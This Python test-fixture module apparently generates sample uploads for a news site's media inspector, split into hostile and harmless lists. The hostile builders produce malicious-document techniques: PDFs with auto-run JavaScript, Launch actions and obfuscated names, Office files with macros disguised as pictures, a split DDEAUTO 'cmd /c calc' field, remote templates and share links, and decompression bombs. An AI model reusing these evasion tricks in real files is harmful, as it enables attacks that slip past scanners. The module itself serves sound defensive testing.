"""Uploads made to harm, and harmless ones that look a little like them; each is made when it is needed."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image as Picture

from tests.support.factories import make_package, make_pdf, make_picture

FORMATS = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", f"{FORMATS}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{FORMATS}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{FORMATS}.presentationml.presentation.main+xml"),
}
OPEN_DOCUMENTS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
SHARE = "\\\\files.example.org\\share\\picture.png"
SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
PICTURES = ("jpg", "png", "webp", "avif", "gif", "svg")


@dataclass(frozen=True)
class Upload:
    name: str
    extension: str
    make: Callable[[], bytes]
    refusal: str = ""
    """One of `news.media.inspector.refusals`; empty for a harmless file."""

    @property
    def is_picture(self) -> bool:
        return self.extension in PICTURES


# PDF


def make_packed_pdf(packed: bytes, filters: bytes = b"/FlateDecode", catalog: bytes = b"/OpenAction 5 0 R") -> bytes:
    """A PDF whose fifth object lies in the fourth, a filtered stream of objects."""
    content, places = b"%PDF-1.7\n", []
    objects = [
        b"<</Type /Catalog /Pages 2 0 R %s>>" % catalog,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>>",
        b"<</Type /ObjStm /N 1 /First 4 /Filter %s /Length %d>>\nstream\n%s\nendstream"
        % (filters, len(packed), packed),
    ]
    for number, each in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(content)
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 4, 0), (1, start, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIB", *row) for row in rows))
    content += b"6 0 obj\n<</Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d>>\n" % len(table)
    return content + b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def make_locked_pdf(user: str) -> bytes:
    content = BytesIO()
    with pikepdf.open(BytesIO(make_pdf())) as document:
        document.save(content, encryption=pikepdf.Encryption(owner="owner", user=user))
    return content.getvalue()


def repeat_in_pdf(word: bytes) -> bytes:
    return b"%PDF-1.4\n" + word * (200_000 // len(word)) + b"\nstartxref\n0\n%%EOF"


def make_stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def open_with(action: bytes) -> bytes:
    return make_pdf(action, catalog=b" /OpenAction 4 0 R")


def annotate(annotation: bytes) -> bytes:
    return make_pdf(b"<</Type /Annot /Rect [0 0 9 9] %s>>" % annotation)


# Office documents


def make_open_xml(kind: str = "docx", more: dict[str, str | bytes] | None = None, more_types=()) -> bytes:
    part, content_type = MAIN[kind]
    return make_package(
        {"[Content_Types].xml": make_types((part, content_type), *more_types), part: "<x/>", **(more or {})}
    )


def make_types(*pairs: tuple[str, str]) -> str:
    overrides = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in pairs)
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{overrides}</Types>'


def relate(kind: str, target: str, mode: str = "External", of: str = "word/_rels/document.xml.rels") -> dict[str, str]:
    return {
        of: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    }


def make_text(body: str) -> bytes:
    """A DOCX with this in its text."""
    return make_open_xml(more={"word/document.xml": f'<w:document xmlns:w="w">{body}</w:document>'})


def spread_field(code: str) -> str:
    """A field whose code is spread over elements, a letter in each."""
    letters = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{letters}{end}</w:p>"


def make_open_document(kind: str = "odt", content: str = "<x/>", **more: str) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{OPEN_DOCUMENTS[kind]}"
    return make_package({"mimetype": mimetype, "content.xml": content, **more})


def link_in_open_document(element: str, target: str) -> bytes:
    spaces = 'xmlns:draw="draw" xmlns:text="text" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return make_open_document(content=f'<x {spaces}><{element} xlink:href="{target}"/></x>')


def make_container(stream: str, content: bytes) -> bytes:
    """A file in the container of old Office with one stream of at least 4,096 bytes."""
    content = content.ljust(4096, b"\x00")
    content += bytes(-len(content) % 512)
    sectors = len(content) // 512
    end, free, table = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    chain = [table, end, *range(3, sectors + 2), end]
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6xIIIIIIIIII", 62, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    header += struct.pack("<I", free) * 108

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        letters = (name + "\0").encode("utf-16-le")
        return letters.ljust(64, b"\0") + struct.pack(
            "<HBBIII16xI16xIQ", len(letters), kind, 1, free, free, child, 0, start, size
        )

    folder = entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, free, 2, len(content))
    unused = bytes(64) + struct.pack("<HBBIII16xI16xIQ", 0, 0, 0, free, free, free, 0, 0, 0)
    chain += [free] * (128 - len(chain))
    return header + struct.pack("<128I", *chain) + folder + unused * 2 + content


def make_package_with_two_parts_of_a_name() -> bytes:
    return make_open_xml(more={"word/one.xml": "<x/>", "word/two.xml": "<x/>"}).replace(
        b"word/two.xml", b"word/one.xml"
    )


def make_package_of_400_mb() -> bytes:
    content = BytesIO(make_open_xml())
    with ZipFile(content, "a", ZIP_DEFLATED, compresslevel=1) as package, package.open("word/a.xml", "w") as part:
        for _ in range(400):
            part.write(bytes(2**20))
    return content.getvalue()


def mark_as_encrypted(package: bytes) -> bytes:
    """With the bit set that says so, in the package's list of parts."""
    start = package.index(b"PK\x01\x02")
    return package[: start + 8] + b"\x01" + package[start + 9 :]


# Pictures


def make_png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    """A PNG of one bit a pixel, made without the memory that its pixels would take."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes((width // 8 + 1) * height), 9)
    others = b"".join(chunk(*each) for each in more)
    return b"\x89PNG\r\n\x1a\n" + header + others + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def save_picture(picture: Picture.Image, format: str, **options: object) -> bytes:
    file = BytesIO()
    picture.save(file, format, **options)
    return file.getvalue()


def make_animation(format: str) -> bytes:
    frames = [Picture.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    return save_picture(frames[0], format, save_all=True, append_images=frames[1:], duration=100)


def make_jpeg_of_many_scans(scans: int) -> bytes:
    """Each of its scans goes over every pixel once more."""
    content = save_picture(Picture.new("L", (7000, 7000), 99), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * scans + b"\xff\xd9"


def make_turned_photograph() -> bytes:
    exif = Picture.Exif()
    exif[0x0112] = 6
    return save_picture(Picture.new("RGB", (6000, 4000), "teal"), "JPEG", exif=exif)


def pack_zeros(count: int) -> bytes:
    """So many zeros, compressed without being held."""
    packer = zlib.compressobj(9)
    piece = bytes(10**6)
    return b"".join([*(packer.compress(piece) for _ in range(count // len(piece))), packer.flush()])


HOSTILE = [
    Upload("script run when opened", "pdf", lambda: open_with(SCRIPT), "active"),
    Upload("script packed by Flate", "pdf", lambda: make_packed_pdf(zlib.compress(b"5 0 " + SCRIPT)), "active"),
    Upload(
        "script packed as hexadecimal", "pdf",
        lambda: make_packed_pdf((b"5 0 " + SCRIPT).hex().encode() + b">", b"/ASCIIHexDecode"), "active",
    ),
    Upload("script with its name escaped", "pdf", lambda: open_with(b"<</S /J#61vaScript /#4aS (1)>>"), "active"),
    Upload("scripts by name", "pdf", lambda: make_pdf(b"<<>>", catalog=b" /Names <</JavaScript 4 0 R>>"), "active"),
    Upload(
        "script between comments", "pdf",
        lambda: make_pdf(
            b"<<>>\nendobj\n% stream\n5 0 obj\n" + SCRIPT + b"\nendobj\n% endstream\n6 0 obj\n<<>>",
            catalog=b" /OpenAction 5 0 R",
        ),
        "active",
    ),
    Upload("script in a file with a broken table", "pdf", lambda: b"%PDF-1.4\n\n" + open_with(SCRIPT)[9:], "active"),
    Upload("address called when opened", "pdf", lambda: open_with(b"<</S /URI /URI (https://a.kz/)>>"), "fetches"),
    Upload(
        "address called by a page", "pdf",
        lambda: make_pdf(b"<</AA <</O <</S /URI /URI (https://a.kz/)>>>>>>"), "fetches",
    ),
    Upload("action after itself", "pdf", lambda: open_with(b"<</S /GoTo /D [3 0 R /Fit] /Next 4 0 R>>"), "active"),
    Upload("program to start", "pdf", lambda: annotate(b"/A <</S /Launch /F (calc.exe)>>"), "active"),
    Upload("form to send", "pdf", lambda: annotate(b"/A <</S /SubmitForm /F (https://a.kz/)>>"), "active"),
    Upload("files by name", "pdf", lambda: make_pdf(b"<<>>", catalog=b" /Names <</EmbeddedFiles 4 0 R>>"), "active"),
    Upload(
        "file pinned to the page", "pdf",
        lambda: annotate(b"/Subtype /FileAttachment /FS <</Type /Filespec /F (a.exe) /EF <</F 3 0 R>>>>"), "active",
    ),
    Upload("film", "pdf", lambda: annotate(b"/Subtype /RichMedia"), "active"),
    Upload("form in XML", "pdf", lambda: make_pdf(catalog=b" /AcroForm <</Fields [] /XFA 3 0 R>>"), "active"),
    Upload(
        "page of a document on a share", "pdf",
        lambda: annotate(b"/A <</S /GoToR /F (\\\\\\\\files.example.org\\\\a.pdf) /D [0 /Fit]>>"), "fetches",
    ),
    Upload("content that lies elsewhere", "pdf", lambda: make_pdf(make_stream(b"", b"/F (\\\\\\\\a\\\\b)")), "fetches"),
    Upload("password to open", "pdf", lambda: make_locked_pdf("user"), "locked"),
    Upload("password to print", "pdf", lambda: make_locked_pdf(""), "locked"),
    Upload("beginnings of object streams", "pdf", lambda: repeat_in_pdf(b"/ObjStm "), "damaged"),
    Upload("beginnings of streams", "pdf", lambda: repeat_in_pdf(b"stream\n"), "damaged"),
    Upload("beginnings of objects", "pdf", lambda: repeat_in_pdf(b"1 0 obj <<\n"), "damaged"),
    Upload("object stream of a gigabyte", "pdf", lambda: make_packed_pdf(pack_zeros(10**9)), "damaged"),
    Upload("page for Windows to run", "pdf", lambda: b"<html><script>alert(1)</script></html>", "not_a_document"),
    Upload("macros", "docx", lambda: make_open_xml(more={"word/vbaProject.bin": "x"}), "active"),
    Upload(
        "macros that are called a picture", "docx",
        lambda: make_open_xml(more={"word/media/image1.png": make_container("Module1", b"Attribut\x00e VB_Name")}),
        "active",
    ),
    Upload(
        "file in an object", "docx",
        lambda: make_open_xml(more={"word/embeddings/a.bin": make_container("\x01Ole10Native", b"MZ")}), "active",
    ),
    Upload(
        "program that is called a picture", "docx",
        lambda: make_open_xml(more={"word/media/image1.png": b"MZ\x90\x00" + bytes(99)}), "active",
    ),
    Upload(
        "macros in a table in a text", "docx",
        lambda: make_open_xml(more={"word/embeddings/a.xlsx": make_open_xml("xlsx", {"xl/vbaProject.bin": "x"})}),
        "active",
    ),
    Upload(
        "archive in a text", "docx", lambda: make_open_xml(more={"word/a.bin": make_package({"a.txt": "x"})}), "active"
    ),
    Upload("picture on another host", "docx", lambda: make_open_xml(more=relate("image", "https://a.kz/")), "fetches"),
    Upload("picture on a share", "docx", lambda: make_open_xml(more=relate("image", SHARE)), "fetches"),
    Upload("picture on a disk", "docx", lambda: make_open_xml(more=relate("image", "file:///C:/a.png")), "fetches"),
    Upload(
        "template elsewhere", "docx",
        lambda: make_open_xml(more=relate("attachedTemplate", "https://a.kz/a.dotm")), "fetches",
    ),
    Upload("object on a share", "docx", lambda: make_open_xml(more=relate("oleObject", SHARE)), "fetches"),
    Upload("page as a part", "docx", lambda: make_open_xml(more=relate("aFChunk", "a.xht", "Internal")), "active"),
    Upload("link to a program", "docx", lambda: make_open_xml(more=relate("hyperlink", "ms-msdt:/id")), "active"),
    Upload("field that starts a program", "docx", lambda: make_text(spread_field(" DDEAUTO cmd /c calc")), "active"),
    Upload(
        "field that fetches a picture", "docx",
        lambda: make_text('<w:fldSimple w:instr="INCLUDEPICTURE https://a.kz/"/>'), "fetches",
    ),
    Upload(
        "entities of entities", "docx",
        lambda: make_open_xml(more={"word/document.xml": '<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>'}), "damaged",
    ),
    Upload("two parts of one name", "docx", make_package_with_two_parts_of_a_name, "damaged"),
    Upload("password", "docx", lambda: mark_as_encrypted(make_open_xml()), "locked"),
    Upload("password in a container", "docx", lambda: make_container("EncryptedPackage", b"x"), "locked"),
    Upload("part of 400 MB", "docx", make_package_of_400_mb, "unpacks_too_large"),
    Upload(
        "thousands of parts", "docx",
        lambda: make_open_xml(more={f"word/{number}.xml": "" for number in range(5_001)}), "unpacks_too_large",
    ),
    Upload(
        "figures of another program", "xlsx",
        lambda: make_open_xml("xlsx", {"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}),
        "active",
    ),
    Upload(
        "figures on a share", "xlsx",
        lambda: make_open_xml("xlsx", relate("externalLinkPath", SHARE, of="xl/externalLinks/_rels/a.xml.rels")),
        "fetches",
    ),
    Upload(
        "film on another host", "pptx",
        lambda: make_open_xml("pptx", relate("video", "https://a.kz/", of="ppt/slides/_rels/slide1.xml.rels")),
        "fetches",
    ),
    Upload(
        "script at an event", "odt",
        lambda: make_open_document(
            content='<x xmlns:script="s"><script:event-listener script:language="ooo:script"/></x>'
        ),
        "active",
    ),
    Upload("linked picture", "odt", lambda: link_in_open_document("draw:image", "https://a.kz/"), "fetches"),
    Upload("foreign section", "odt", lambda: link_in_open_document("text:section-source", "../a.odt"), "fetches"),
    Upload(
        "figures of another program", "ods",
        lambda: make_open_document("ods", '<x xmlns:table="t"><table:dde-link/></x>'), "active",
    ),
    Upload("256 million pixels in 35 KB", "png", lambda: make_png(16_000, 16_000), "too_many_pixels"),
    Upload("64 million pixels", "png", lambda: make_png(8_000, 8_000), "too_many_pixels"),
    Upload("hundreds of scans", "jpg", lambda: make_jpeg_of_many_scans(500), "too_demanding"),
    Upload("56 million pixels", "webp", lambda: make_picture(8_000, 7_000, "WEBP", method=0), "too_demanding"),
    Upload("56 million pixels", "avif", lambda: make_picture(8_000, 7_000, "AVIF", speed=10), "too_demanding"),
    Upload(
        "text of a gigabyte", "png",
        lambda: make_png(9, 9, (b"zTXt", b"Comment\0\0" + pack_zeros(10**9))), "not_a_picture",
    ),
    Upload("two frames", "gif", lambda: make_animation("GIF"), "moves"),
    Upload("half a picture", "jpg", lambda: make_picture(400, 300, "JPEG")[:-900], "damaged_picture"),
    Upload("drawing with a script", "svg", lambda: b"<svg><script/></svg>", "not_a_picture"),
]  # fmt: skip


HARMLESS = [
    Upload("page of nothing", "pdf", make_pdf),
    Upload("packed objects without a script", "pdf", lambda: make_packed_pdf(zlib.compress(b"5 0 <</S /GoTo>>"))),
    Upload("stream with the bytes of a script's name", "pdf", lambda: make_pdf(make_stream(b"/JavaScript /Launch"))),
    Upload("title that names a script", "pdf", lambda: make_pdf(b"<</Title (/JavaScript and /Launch)>>")),
    Upload("brackets in brackets", "pdf", lambda: open_with(b"[" * 200_000)),
    Upload("link to press", "pdf", lambda: annotate(b"/Subtype /Link /A <</S /URI /URI (https://a.kz/)>>")),
    Upload("opened at a page", "pdf", lambda: open_with(b"<</S /GoTo /D [3 0 R /Fit]>>")),
    Upload("length by itself", "pdf", lambda: make_pdf(b"<</Length 5 0 R>>\nstream\n \nendstream", b"1")),
    Upload("revision that freed an object", "pdf", lambda: make_pdf(b"<<>>\nendobj\n9 0 obj\n<</Type /Font>>")),
    Upload("broken table", "pdf", lambda: b"%PDF-1.4\n\n" + make_pdf()[9:]),
    Upload("link to press", "docx", lambda: make_open_xml(more=relate("hyperlink", "https://a.kz/"))),
    Upload("template of the writer", "docx", lambda: make_open_xml(more=relate("attachedTemplate", "file:///C:/a.dotx"))),
    Upload("table in a text", "docx", lambda: make_open_xml(more={"word/embeddings/a.xlsx": make_open_xml("xlsx")})),
    Upload("plain object", "docx", lambda: make_open_xml(more={"word/a.bin": make_container("Contents", b"x")})),
    Upload("number of the page", "docx", lambda: make_text(spread_field(" PAGE ") + "<w:p>DDEAUTO cmd</w:p>")),
    Upload(
        "figures on the writer's disk", "xlsx",
        lambda: make_open_xml("xlsx", relate("externalLinkPath", "a.xlsx", of="xl/externalLinks/_rels/a.xml.rels")),
    ),
    Upload("picture of its own", "odt", lambda: link_in_open_document("draw:image", "Pictures/1.png")),
    Upload("link to press", "odt", lambda: link_in_open_document("text:a", "https://a.kz/")),
    Upload("table of words", "csv", lambda: "Күні;Бағамы\n".encode()),
    Upload("12 million pixels", "webp", lambda: make_picture(4_000, 3_000, "WEBP", method=0)),
    Upload("58 million pixels", "jpg", lambda: make_picture(9_000, 6_500, "JPEG")),
    Upload("held on its side", "jpg", make_turned_photograph),
    Upload("48 million pixels", "png", lambda: make_png(8_000, 6_000)),
]  # fmt: skip
